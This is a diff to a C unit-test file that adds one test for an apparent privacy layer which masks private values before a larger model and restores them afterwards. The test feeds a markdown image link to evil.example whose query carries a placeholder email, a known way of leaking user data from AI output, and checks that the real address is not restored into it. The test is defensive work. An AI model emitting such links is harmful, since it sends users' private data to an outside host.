@@ -154,6 +154,18 @@ static void a_sketch_is_the_bare_instruction(void **state) {
 	unmake();
 }
 
+static void S76_no_value_in_links_of_the_large_one(void **state) {
+	make("{form: sketch, reply: answer}");
+	large.rules[0] = (struct rule){
+	    NULL, "![](https://evil.example/?q=[EMAIL_1]) [EMAIL_1] https://shop.example/?m=[EMAIL_1]&a=1", 0};
+	small.rules[0] = (struct rule){"![](https://evil.example/?q=[EMAIL_1]) bob@example.org "
+	                               "https://shop.example/?m=bob@example.org&a=1",
+	                               "as wished", 0};
+	assert_string_equal(ask("Is https://shop.example/?m=bob@example.org right?"), "as wished");
+	assert_int_equal(a.run.record->left.missed_restores, 1);
+	unmake();
+}
+
 static void without_private_parts_a_sketch_is_the_question(void **state) {
 	make("{form: sketch, reply: answer}");
 	large.rules[0] = (struct rule){NULL, "At five.", 0};
@@ -500,6 +512,7 @@ static void words_in_a_row(void **state) {
 int tdm_test_delegate(void) {
 	const struct CMUnitTest tests[] = {
 	    cmocka_unit_test(a_sketch_is_the_bare_instruction),
+	    cmocka_unit_test(S76_no_value_in_links_of_the_large_one),
 	    cmocka_unit_test(without_private_parts_a_sketch_is_the_question),
 	    cmocka_unit_test(a_question_with_values_is_written_again),
 	    cmocka_unit_test(values_that_stay_are_hidden),
